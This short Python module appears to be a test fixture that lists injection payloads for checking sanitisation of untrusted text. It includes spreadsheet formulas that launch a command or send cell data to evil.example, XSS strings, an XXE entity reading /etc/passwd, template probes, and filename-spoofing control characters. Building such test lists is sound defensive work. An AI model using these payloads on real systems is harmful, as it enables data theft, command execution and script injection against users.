"""Texts that somebody might have written into a source to get them run, followed or believed somewhere else."""

from __future__ import annotations

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '"=1+1',
    '""=1+1',
    "'=1+1",
    "“=1+1",
    "x;=1+1",
    "x\t=1+1",
    'x","=1+1',
    "x,=1+1",
    "x\n=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example?",A1),"//a")',
    "|cmd",
    "%0A=1+1",
)
MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "</summary></entry><entry><id>x</id></entry>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "</script><script>alert(1)</script>",
    "${7*7}{{7*7}}<%= 7*7 %>",
)
LINKS = (
    "[click](javascript:alert(1))",
    "![x](http://evil.example/x.png)",
    "[x]: http://evil.example",
    "<http://evil.example>",
    "http://evil.example/path",
    "www.evil.example",
    "mail me@evil.example",
    "# head\n\n- item\n\n---\n",
    "`code` **bold** ~~gone~~ | a | b |",
    "```\nfence",
    '","@type":"Person","x":"',
    "\\\\[x](http://evil.example)",
)
CONTROLS = (
    "bell\x07",
    "escape\x1b[31m",
    "form\x0cfeed",
    "not a character \ufffe",
    "delete\x7f",
    "\u202egnp.exe",
)
PAYLOADS = (*FORMULAS, *MARKUP, *LINKS, *CONTROLS)
